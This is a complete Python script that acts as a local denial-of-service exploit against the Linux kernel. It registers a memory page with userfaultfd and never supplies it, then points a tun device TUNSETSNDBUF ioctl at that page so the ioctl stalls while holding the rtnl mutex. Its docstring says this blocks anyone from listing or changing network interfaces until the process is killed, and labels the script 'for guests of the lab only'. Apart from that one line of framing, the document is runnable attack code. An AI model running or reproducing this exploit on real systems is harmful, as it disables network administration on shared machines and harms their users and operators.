#!/usr/bin/env python3
"""Holds the kernel's rtnl mutex until it is killed: a tun device's ioctl copies its argument from a page that is not there,
and whoever should provide the page (userfaultfd) does not. Prints "held" when it does. For guests of the lab only: nobody
can list or change an interface meanwhile."""
import ctypes
import fcntl
import mmap
import os
import struct
import threading

USERFAULTFD = 323  # the system call on x86-64
UFFDIO_API, UFFDIO_REGISTER = 0xC018AA3F, 0xC020AA00
TUNSETIFF, TUNSETSNDBUF = 0x400454CA, 0x400454D4
IFF_TUN, IFF_NO_PI = 0x0001, 0x1000

libc = ctypes.CDLL(None, use_errno=True)
faults = libc.syscall(USERFAULTFD, os.O_CLOEXEC)
assert faults >= 0, os.strerror(ctypes.get_errno())
fcntl.ioctl(faults, UFFDIO_API, struct.pack("QQQ", 0xAA, 0, 0))
page = mmap.mmap(-1, mmap.PAGESIZE)
address = ctypes.addressof(ctypes.c_char.from_buffer(page))
fcntl.ioctl(faults, UFFDIO_REGISTER, struct.pack("QQQQ", address, mmap.PAGESIZE, 1, 0))
tun = os.open("/dev/net/tun", os.O_RDWR)
fcntl.ioctl(tun, TUNSETIFF, struct.pack("16sH22x", b"held", IFF_TUN | IFF_NO_PI))
threading.Thread(target=lambda: os.read(faults, 32) and print("held", flush=True), daemon=True).start()
libc.ioctl(tun, TUNSETSNDBUF, ctypes.c_void_p(address))
